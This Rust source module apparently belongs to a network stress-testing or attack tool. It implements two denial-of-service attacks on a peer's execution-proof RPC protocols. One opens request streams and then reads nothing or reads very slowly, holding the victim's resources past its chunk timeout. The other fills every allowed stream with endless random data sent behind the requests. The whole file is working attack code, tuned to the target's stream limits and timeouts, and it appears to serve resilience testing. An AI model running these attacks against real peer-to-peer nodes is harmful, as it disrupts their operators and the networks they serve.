//! Attackers that ask for proofs and hold what the victim keeps for them: those that take none, or hardly any, and those
//! that send more behind a request.

use crate::{
    attack::{Attack, Served, Tally, Target},
    node::{Failure, random_bytes},
    wire::Line,
};
use assay_network::{framing::encode_request, rpc::Protocol};
use assay_types::{
    ExecutionProofsByRange, ProofByRootIdentifier, ProofByRootIdentifiers, Slot, SszContainer as _,
};
use futures::{AsyncReadExt as _, AsyncWriteExt as _, future::join_all};
use libp2p::Stream;
use std::{sync::atomic::Ordering, time::Duration};

/// How long one rests who takes nothing: the time that a chunk may take (`RpcTimeouts::chunk_write`), and a little.
const REST: Duration = Duration::from_secs(21);
/// Times that an identity asks and rests: once as anybody does, and once as one who is known to be slow.
const RESTS: usize = 2;
/// Streams of one protocol that are served for one peer: `StreamLimits::per_peer_and_protocol`.
pub(crate) const SERVED_STREAMS: usize = 4;
/// Bytes that go behind a request at a time.
const PIECE: usize = 1 << 16;

/// The proofs' protocols.
pub(crate) const PROTOCOLS: [Protocol; 2] =
    [Protocol::ExecutionProofsByRange, Protocol::ExecutionProofsByRoot];

/// A request for these slots.
pub(crate) fn by_range(start: Slot, count: u64) -> Vec<u8> {
    let request = ExecutionProofsByRange {
        start_slot: start,
        count,
        proof_types: Vec::new(),
    };
    encode_request(&request.to_ssz_bytes())
}

/// A request for what is to be had.
pub(crate) fn request(protocol: Protocol, served: &Served) -> Vec<u8> {
    if protocol == Protocol::ExecutionProofsByRange {
        return by_range(served.start, served.count);
    }
    let identifier = |root: &_| ProofByRootIdentifier {
        block_root: *root,
        proof_types: Vec::new(),
    };
    let request = ProofByRootIdentifiers(served.blocks.iter().map(identifier).collect());
    encode_request(&request.to_ssz_bytes())
}

/// A stream that is taken by the victim, and the request on it.
async fn ask(
    attack: Attack,
    protocol: Protocol,
    line: &mut Line,
    target: &Target,
    tally: &Tally,
) -> Result<Stream, Failure> {
    tally.tried(attack);
    let mut stream = line.stream(protocol.id()).await?;
    tally.sure(attack);
    stream.write_all(&request(protocol, &target.served())).await?;
    stream.flush().await?;
    Ok(stream)
}

/// Asks for proofs of the largest size and takes nothing, or 1 KiB a second, for as long as the victim lets it.
pub(crate) async fn readers(line: &mut Line, target: &Target, tally: &Tally) -> Result<(), Failure> {
    let reads = tally.next.fetch_add(1, Ordering::Relaxed).is_multiple_of(2);
    for _ in 0..RESTS {
        let mut streams = Vec::new();
        for protocol in PROTOCOLS {
            streams.push(ask(Attack::Readers, protocol, line, target, tally).await?);
        }
        if !reads {
            tokio::time::sleep(REST).await;
            continue;
        }
        let sipping = streams.into_iter().map(|mut stream| async move {
            let mut bytes = [0; 1024];
            // Until its end, which is an answer that broke off.
            while stream.read(&mut bytes).await.is_ok_and(|n| n > 0) {
                tokio::time::sleep(Duration::from_secs(1)).await;
            }
        });
        join_all(sipping).await;
    }
    Ok(())
}

/// Sends requests, and behind each as many bytes as are taken.
pub(crate) async fn behind(line: &mut Line, target: &Target, tally: &Tally) -> Result<(), Failure> {
    let piece = &random_bytes(2, PIECE);
    let mut streams = Vec::new();
    for protocol in PROTOCOLS {
        for _ in 0..SERVED_STREAMS {
            streams.push(ask(Attack::Behind, protocol, line, target, tally).await?);
        }
    }
    let sending = streams.into_iter().map(|mut stream| async move {
        // Until the stream is ended, or for ever.
        while stream.write_all(piece).await.is_ok() && stream.flush().await.is_ok() {
            tally.sent(PIECE);
        }
    });
    join_all(sending).await;
    Ok(())
}
